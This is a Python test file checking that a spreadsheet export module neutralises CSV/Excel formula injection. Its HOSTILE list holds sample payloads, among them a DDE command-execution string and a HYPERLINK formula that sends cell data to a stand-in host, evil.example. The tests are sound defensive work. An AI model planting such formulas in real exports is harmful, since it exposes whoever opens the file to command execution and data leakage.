"""Text cells for CSV/Excel never start like a formula (OWASP), and are quoted right."""

import csv
import io

import pytest

from axos_data import spreadsheet

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1;"Klikk")',
    "+47 22 33 44 55",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_gets_a_single_quote_in_front(text):
    assert spreadsheet.starts_like_formula(text)
    assert spreadsheet.neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "Kantine", "Ola = Kari", "a-b", "E-post: x@y.no", "'allerede sitert", "42"]
)
def test_ordinary_text_is_left_as_it_is(text):
    assert not spreadsheet.starts_like_formula(text)
    assert spreadsheet.neutralise(text) == text
    assert spreadsheet.csv_text(text) == text


@pytest.mark.parametrize(
    "text",
    [
        'Sier "hei"; og går',
        "to\nlinjer",
        "komma, her",
        '=HYPERLINK("x";"y")',
        "  innrykk",
        "tab\tinni",
        "Čáhppes Sámi; ÆØÅ 🙂",
    ],
)
def test_a_csv_cell_reads_back_as_one_cell_with_the_neutralised_text(text):
    line = f"a;{spreadsheet.csv_text(text)};b\r\n"
    (row,) = list(csv.reader(io.StringIO(line, newline=""), delimiter=";"))
    assert row == ["a", spreadsheet.neutralise(text), "b"]
